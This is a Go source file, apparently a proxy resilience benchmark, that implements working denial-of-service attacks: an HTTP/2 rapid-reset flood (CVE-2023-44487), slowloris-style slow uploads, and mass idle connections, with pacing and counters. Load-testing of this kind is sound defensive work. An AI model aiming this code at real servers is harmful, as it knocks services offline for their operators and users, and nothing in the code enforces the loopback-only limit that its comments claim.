package abuse

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attack is one kind of abuse, run against a target's HTTPS listener for
// as long as its context lives. Every attack is bounded in connections and
// rate, and only ever dials the loopback address it is given.
type Attack struct {
	Name        string
	Description string
	// Run attacks addr until ctx ends, counting what it does in c, which
	// the caller may read at any time.
	Run func(ctx context.Context, addr string, tlsConf *tls.Config, s Settings, c *Counters)
}

// Settings sizes the attacks.
type Settings struct {
	// ResetConns is the number of HTTP/2 connections of the rapid-reset
	// attack; each opens and cancels ResetBatch streams, then pauses
	// ResetPause, for at most ResetMaxStreams streams in total.
	ResetConns      int
	ResetBatch      int
	ResetPause      time.Duration
	ResetMaxStreams int64
	// SlowConns connections each send a request head announcing
	// SlowBodySize bytes, then one byte per SlowInterval.
	SlowConns    int
	SlowBodySize int
	SlowInterval time.Duration
	// IdleConns keep-alive connections each make one request, then stay
	// open and silent.
	IdleConns int
	// Host is the virtual host: SNI, :authority and Host.
	Host string
}

// DefaultSettings keep every attack small enough for a laptop and a
// five-minute run. The rapid reset is paced (at most 4 × 20 streams per
// 10 ms, 8,000/s) so that on a small machine it measures the proxy's work
// per reset rather than the attacker's own CPU use.
func DefaultSettings() Settings {
	return Settings{
		ResetConns: 4, ResetBatch: 20, ResetPause: 10 * time.Millisecond, ResetMaxStreams: 1_000_000,
		SlowConns: 256, SlowBodySize: 100_000, SlowInterval: time.Second,
		IdleConns: 2000,
		Host:      "bench.example.test",
	}
}

// Stats is what an attack did, as seen from the attacker.
type Stats struct {
	// Sent counts attack units: streams reset, body bytes trickled, or idle
	// connections established.
	Sent int64
	// Conns counts connections the attacker opened, Closed the ones the
	// target closed on it.
	Conns, Closed int64
	// Open is the number of the attacker's connections still open at the
	// end.
	Open int64
}

func (s Stats) String() string {
	return fmt.Sprintf("sent %d, conns %d, closed by proxy %d, open at end %d", s.Sent, s.Conns, s.Closed, s.Open)
}

// Attacks returns the attacks in the order they run; "none" measures the
// normal load alone.
func Attacks() []Attack {
	return []Attack{
		{Name: "none", Description: "no attack: the normal load alone", Run: func(ctx context.Context, _ string, _ *tls.Config, _ Settings, _ *Counters) {
			<-ctx.Done()
		}},
		{Name: "rapid-reset", Description: "HTTP/2 rapid reset (CVE-2023-44487): streams opened and cancelled at once, in batches", Run: rapidReset},
		{Name: "slow-body", Description: "slowloris-style uploads: a request head, then one body byte per interval", Run: slowBodies},
		{Name: "idle", Description: "idle keep-alive connections after one request each", Run: idleConns},
	}
}

func dialTLS(ctx context.Context, addr string, conf *tls.Config) (*tls.Conn, error) {
	d := tls.Dialer{NetDialer: &net.Dialer{Timeout: 5 * time.Second}, Config: conf}
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	return c.(*tls.Conn), nil
}

// rapidReset opens HTTP/2 connections that send HEADERS for GET / and an
// RST_STREAM right after, over and over. A connection the target closes
// (GOAWAY) is replaced, at most once per ResetPause.
func rapidReset(ctx context.Context, addr string, conf *tls.Config, s Settings, st *Counters) {
	conf = conf.Clone()
	conf.NextProtos = []string{"h2"}
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", s.Host}, {":path", "/"}} {
		// Never-indexed literals keep every header block stateless, so one
		// encoding serves every stream of every connection.
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	headers := block.Bytes()
	var wg sync.WaitGroup
	for range s.ResetConns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil && st.sent.Load() < s.ResetMaxStreams {
				resetConn(ctx, addr, conf, s, headers, st)
				sleep(ctx, s.ResetPause)
			}
		}()
	}
	wg.Wait()
}

func resetConn(ctx context.Context, addr string, conf *tls.Config, s Settings, headers []byte, st *Counters) {
	c, err := dialTLS(ctx, addr, conf)
	if err != nil {
		return
	}
	st.conns.Add(1)
	st.open.Add(1)
	defer st.open.Add(-1)
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	defer c.Close()
	bw := bufio.NewWriterSize(c, 64<<10)
	fr := http2.NewFramer(bw, c)
	var wmu sync.Mutex
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			wmu.Lock()
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					_ = fr.WriteSettingsAck()
					_ = bw.Flush()
				}
			case *http2.PingFrame:
				if !f.IsAck() {
					_ = fr.WritePing(true, f.Data)
					_ = bw.Flush()
				}
			case *http2.GoAwayFrame:
				wmu.Unlock()
				_ = c.Close()
				return
			}
			wmu.Unlock()
		}
	}()
	wmu.Lock()
	_, _ = bw.WriteString(http2.ClientPreface)
	_ = fr.WriteSettings()
	err = bw.Flush()
	wmu.Unlock()
	if err != nil {
		return
	}
	id := uint32(1)
	for ctx.Err() == nil && st.sent.Load() < s.ResetMaxStreams && id < 1<<31-2*uint32(s.ResetBatch) {
		select {
		case <-closed:
			st.closed.Add(1)
			return
		default:
		}
		wmu.Lock()
		for range s.ResetBatch {
			_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndStream: true, EndHeaders: true})
			_ = fr.WriteRSTStream(id, http2.ErrCodeCancel)
			id += 2
		}
		err := bw.Flush()
		wmu.Unlock()
		if err != nil {
			st.closed.Add(1)
			return
		}
		st.sent.Add(int64(s.ResetBatch))
		sleep(ctx, s.ResetPause)
	}
}

// slowBodies keeps SlowConns uploads in flight, each trickling one byte per
// SlowInterval; an upload the target cuts off is replaced at the next
// tick.
func slowBodies(ctx context.Context, addr string, conf *tls.Config, s Settings, st *Counters) {
	conf = conf.Clone()
	conf.NextProtos = []string{"http/1.1"}
	head := fmt.Sprintf("POST / HTTP/1.1\r\nHost: %s\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", s.Host, s.SlowBodySize)
	var wg sync.WaitGroup
	for i := range s.SlowConns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// Spread the connects over one interval.
			sleep(ctx, s.SlowInterval*time.Duration(i)/time.Duration(s.SlowConns))
			for ctx.Err() == nil {
				slowBody(ctx, addr, conf, s, head, st)
				sleep(ctx, s.SlowInterval)
			}
		}()
	}
	wg.Wait()
}

func slowBody(ctx context.Context, addr string, conf *tls.Config, s Settings, head string, st *Counters) {
	c, err := dialTLS(ctx, addr, conf)
	if err != nil {
		return
	}
	st.conns.Add(1)
	st.open.Add(1)
	defer st.open.Add(-1)
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	defer c.Close()
	// The target answering (a timeout's 408, say) or closing ends the
	// upload.
	gone := make(chan struct{})
	go func() {
		_, _ = io.Copy(io.Discard, c)
		close(gone)
	}()
	if _, err := io.WriteString(c, head); err != nil {
		return
	}
	t := time.NewTicker(s.SlowInterval)
	defer t.Stop()
	for sent := 0; sent < s.SlowBodySize; sent++ {
		select {
		case <-ctx.Done():
			return
		case <-gone:
			st.closed.Add(1)
			return
		case <-t.C:
		}
		if _, err := c.Write([]byte{'x'}); err != nil {
			st.closed.Add(1)
			return
		}
		st.sent.Add(1)
	}
}

// idleConns opens IdleConns keep-alive connections, 64 at a time, makes one
// request on each and leaves them open and silent until ctx ends.
func idleConns(ctx context.Context, addr string, conf *tls.Config, s Settings, st *Counters) {
	conf = conf.Clone()
	conf.NextProtos = []string{"http/1.1"}
	req := "GET / HTTP/1.1\r\nHost: " + s.Host + "\r\n\r\n"
	var wg sync.WaitGroup
	slots := make(chan struct{}, 64)
	for range s.IdleConns {
		select {
		case <-ctx.Done():
		case slots <- struct{}{}:
		}
		if ctx.Err() != nil {
			break
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			release := sync.OnceFunc(func() { <-slots })
			defer release()
			c, err := dialTLS(ctx, addr, conf)
			if err != nil {
				return
			}
			defer c.Close()
			st.conns.Add(1)
			br := bufio.NewReader(c)
			if _, err := io.WriteString(c, req); err != nil {
				return
			}
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				return
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			st.sent.Add(1)
			st.open.Add(1)
			defer st.open.Add(-1)
			release()
			stop := context.AfterFunc(ctx, func() { _ = c.Close() })
			defer stop()
			if _, err := br.ReadByte(); err != nil && ctx.Err() == nil {
				st.closed.Add(1)
			}
		}()
	}
	wg.Wait()
}

// Counters count what an attack did, from the attacker's side.
type Counters struct {
	sent, conns, closed, open atomic.Int64
}

// Snapshot returns the counts so far.
func (s *Counters) Snapshot() Stats {
	return Stats{Sent: s.sent.Load(), Conns: s.conns.Load(), Closed: s.closed.Load(), Open: s.open.Load()}
}
func sleep(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}
